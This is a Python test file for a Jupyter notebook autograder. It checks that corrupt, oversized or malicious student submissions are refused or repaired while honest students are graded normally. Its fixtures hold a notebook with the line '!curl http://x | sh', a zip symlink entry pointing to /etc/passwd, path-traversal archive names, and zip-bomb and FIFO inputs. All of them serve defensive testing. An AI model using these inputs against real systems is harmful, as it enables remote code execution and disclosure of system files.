"""Files made to stop a batch: each gets its rows with a cause or is repaired; nobody else is hurt.

The attacks of code are the runner's tests; these are those of files, names and archives, all in one
class with two honest students.
"""

import csv
import json
import os
import stat
import zipfile
from pathlib import Path

import pytest
from handing_in import LAB, POINTS, as_bytes, code, small
from quick_grader import QuickGrader, answer, grade_command

from labkit.grading import command
from labkit.grading.intake.notebooks_read import LARGEST


class Grader(QuickGrader):
    graded = []  # noqa: RUF012 - this module's own


def changed(**facts) -> bytes:
    return as_bytes({**small(answer("passes")), **facts})


def link(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry


def named(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo("x")
    entry.filename = name
    return entry


SOUND = small(answer("passes"))
R = {"kernelspec": {"language": "R"}, "labkit": SOUND["metadata"]["labkit"]}
OLD = {"worksheets": [{"cells": [{"cell_type": "code", "input": answer("passes")}]}], "nbformat": 3}
TWIN_IDS = {**SOUND, "cells": [{**cell, "id": "same"} for cell in SOUND["cells"]]}
MAGIC = small("!curl http://x | sh\n%%bash\n" + answer("passes"))

REFUSED = {
    "empty": (b"", "empty"),
    "nul": (b"\0" * 4096, "empty"),
    "cut": (as_bytes(SOUND)[:200], "corrupt"),
    "web-page": (b"<html>please log in</html>", "corrupt"),
    "pdf": (b"%PDF-1.7 \x93\x81", "corrupt"),
    "bytes": (b"\xff\x81" * 99, "encoding"),
    "list": (b"[]", "corrupt"),
    "deep": (b'{"cells":' + b"[" * 200_000, "corrupt"),
    "deep-metadata": (b'{"cells": [], "metadata":' + b'{"a":' * 100_000, "corrupt"),
    "fifty-megabytes": (as_bytes(SOUND) + b" " * (50 * 2**20), "too large"),
    "cells": (as_bytes({"cells": [code("x")] * 5000}), "too large"),
    "much-code": (as_bytes(small("x = 1\n" * 600_000)), "too large"),
    "language": (changed(metadata=R, cells=[code("f <- function(x) x")]), "language"),
    "no-cells": (b'{"cells": null, "nbformat": 4}', "corrupt"),
}
REPAIRED = {
    "bom": (b"\xef\xbb\xbf" + as_bytes(SOUND), ""),
    "utf-16": (json.dumps(SOUND).encode("utf-16"), "read as utf-16"),
    "latin": (as_bytes(SOUND).replace(b"import math", b"import math # \xe9\xff"), "read as cp1252"),
    "format-3": (as_bytes(OLD), "of format 3"),
    "twin-ids": (as_bytes(TWIN_IDS), "cell id(s) stand on several cells"),
    "other-kernel": (changed(metadata=R), "it was read as Python"),
    "no-metadata": (changed(metadata=None), "does not say of which lab it is"),
    "bad-metadata": (changed(metadata={"labkit": {"lab": ["x"], "version": 5}}), "of which lab"),
    "magics": (as_bytes(MAGIC), "`!curl http://x | sh` is a magic or shell line"),
    "bad-cells": (changed(cells=[None, 5, {}, *SOUND["cells"]]), "3 damaged cell(s)"),
    "text-cell": (
        changed(cells=[{**cell, "cell_type": "raw"} for cell in SOUND["cells"]]),
        "stood in a cell of text",
    ),
    "parser-bomb": (
        changed(cells=[*SOUND["cells"], code("-" * 90_000 + "1"), code("%a\n" * 3000)]),
        "",
    ),
}


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> dict[str, list[dict]]:
    """The rows of each student of one class that holds every file above, in one zip."""
    root = tmp_path_factory.mktemp("class")
    with zipfile.ZipFile(root / "class.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for name, (content, _) in {**REFUSED, **REPAIRED}.items():
            archive.writestr(f"{name}_1_assignsubmission_file_/{LAB}.ipynb", content)
        for name in ("aaa-honest", "zzz-honest"):
            archive.writestr(f"{name}_1_assignsubmission_file_/{LAB}.ipynb", as_bytes(SOUND))
        archive.writestr(link(f"link_1_assignsubmission_file_/{LAB}.ipynb"), "/etc/passwd")
        archive.writestr(named("../../climbing.ipynb"), as_bytes(SOUND))
        archive.writestr(named("/absolute.ipynb"), as_bytes(SOUND))
        archive.writestr(named("C:\\drive.ipynb"), as_bytes(SOUND))
        archive.writestr("bomb_1_assignsubmission_file_/x.ipynb", b"0" * (LARGEST + 1))
        archive.writestr("word_1_assignsubmission_file_/lab.docx", b"PK")
    words = [root / "class.zip", "-o", root / "grades.csv", "--lab", "02"]
    assert grade_command(words, Grader) == command.SOME_UNGRADED
    assert {path.name.partition(".")[0] for path in root.iterdir()} == {"class", "grades"}
    with open(root / "grades.csv", encoding="utf-8", newline="") as file:
        rows: dict[str, list[dict]] = {}
        for row in csv.DictReader(file):
            rows.setdefault(row["student"], []).append(row)
    return rows


def points(rows: list[dict]) -> str:
    (ulp,) = [row for row in rows if row["exercise"] == "ulp"]
    return ulp["points"]


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_read_has_rows_with_a_cause_and_no_points(graded, name):
    rows = graded[name]
    assert {row["cause"] for row in rows} == {REFUSED[name][1]}
    assert {row["status"] for row in rows} == {"not graded"}
    assert {row["points"] for row in rows} == {""}
    assert len(rows) == len(POINTS) and all(row["message"] for row in rows)


@pytest.mark.parametrize("name", REPAIRED)
def test_what_can_be_repaired_earns_what_the_honest_file_earns(graded, name):
    rows = graded[name]
    assert points(rows) == "2"
    assert REPAIRED[name][1] in rows[0]["repairs"]


@pytest.mark.parametrize(
    ("name", "cause"),
    [
        ("link", "link"),
        ("climbing", "unsafe name"),
        ("absolute", "unsafe name"),
        ("drive", "unsafe name"),
        ("bomb", "too large"),
        ("word", "no notebook"),
    ],
)
def test_an_entry_made_to_lead_astray_has_rows_with_a_cause(graded, name, cause):
    assert {row["cause"] for row in graded[name]} == {cause}
    assert len(graded[name]) == len(POINTS)


def test_the_honest_are_graded_as_if_alone(graded):
    assert points(graded["aaa-honest"]) == points(graded["zzz-honest"]) == "2"
    assert len(graded) == len(REFUSED) + len(REPAIRED) + 2 + 6


def test_a_folder_of_links_and_pipes_is_graded_beside_an_honest_file(tmp_path: Path):
    root = tmp_path / "in"
    for student in ("ada", "bob", "cy"):
        (root / student / LAB).mkdir(parents=True)
    (root / "ada" / LAB / "x.ipynb").write_bytes(as_bytes(SOUND))
    (tmp_path / "secret.ipynb").write_bytes(as_bytes(SOUND))
    (root / "bob" / LAB / "x.ipynb").symlink_to(tmp_path / "secret.ipynb")
    os.mkfifo(root / "cy" / LAB / "x.ipynb")
    (root / "loop").symlink_to(root)
    words = [str(root), "-o", str(tmp_path / "grades.csv"), "--lab", LAB]
    assert grade_command(words, Grader) == command.SOME_UNGRADED
    with open(tmp_path / "grades.csv", encoding="utf-8", newline="") as file:
        causes = {row["student"]: row["cause"] for row in csv.DictReader(file)}
    assert causes == {"ada": "", "bob": "link", "cy": "unreadable", "loop": "link"}
